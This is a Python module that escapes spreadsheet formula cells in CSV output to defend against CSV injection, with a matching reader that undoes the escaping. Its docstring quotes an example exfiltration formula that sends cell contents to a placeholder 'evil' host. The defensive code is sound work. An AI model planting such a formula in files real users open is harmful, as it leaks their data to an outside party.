"""CSV writing that a spreadsheet cannot execute: every CSV loscat-hf writes goes through here.

People open metadata, id maps, predictions and link reports in Excel or LibreOffice, which run a cell that
starts with `=`, `+`, `-` or `@` (and some with a leading tab or carriage return) as a formula: a file name
or free-text cell such as `=HYPERLINK("http://evil/?"&A1)` would leak data or run commands (OWASP "CSV
injection"). Such cells are written with a leading apostrophe, the usual neutralisation that spreadsheets
display as plain text; numbers (`-1`, `+2.5`, `-1e-3`) are written as they are. A value that itself starts
with an apostrophe gets one more, so `read_cell`, which undoes it for loscat-hf's own readers (e.g.
`predict --resume` reading its earlier output), gives back exactly what was written.
"""

from __future__ import annotations

import csv
import re
from collections.abc import Iterable, Mapping
from typing import Any, TextIO

_FORMULA_START = ("=", "+", "-", "@", "\t", "\r")
_ESCAPED = (*_FORMULA_START, "'")
_NUMBER = re.compile(r"[+-]?(\d+(\.\d*)?|\.\d+)([eE][+-]?\d+)?")


def safe_cell(value: Any) -> Any:
    """`value`, with a leading apostrophe when a spreadsheet would read it as a formula."""
    if not isinstance(value, str) or not value.startswith(_ESCAPED):
        return value
    if _NUMBER.fullmatch(value):
        return value
    return "'" + value


def read_cell(value: str) -> str:
    """Inverse of `safe_cell` for a cell read back from a CSV that loscat-hf wrote."""
    if len(value) > 1 and value[0] == "'" and value[1] in "=+-@\t\r'":
        return value[1:]
    return value


class SafeWriter:
    """`csv.writer` whose rows go through `safe_cell`."""

    def __init__(self, fh: TextIO, **kwargs: Any) -> None:
        self._writer = csv.writer(fh, **kwargs)

    def writerow(self, row: Iterable[Any]) -> Any:
        return self._writer.writerow([safe_cell(v) for v in row])

    def writerows(self, rows: Iterable[Iterable[Any]]) -> None:
        for row in rows:
            self.writerow(row)


class SafeDictWriter(csv.DictWriter):
    """`csv.DictWriter` whose values go through `safe_cell` (the header is ours, written as is)."""

    def writerow(self, rowdict: Mapping[str, Any]) -> Any:
        return super().writerow({k: safe_cell(v) for k, v in rowdict.items()})

    def writerows(self, rowdicts: Iterable[Mapping[str, Any]]) -> None:
        for row in rowdicts:
            self.writerow(row)
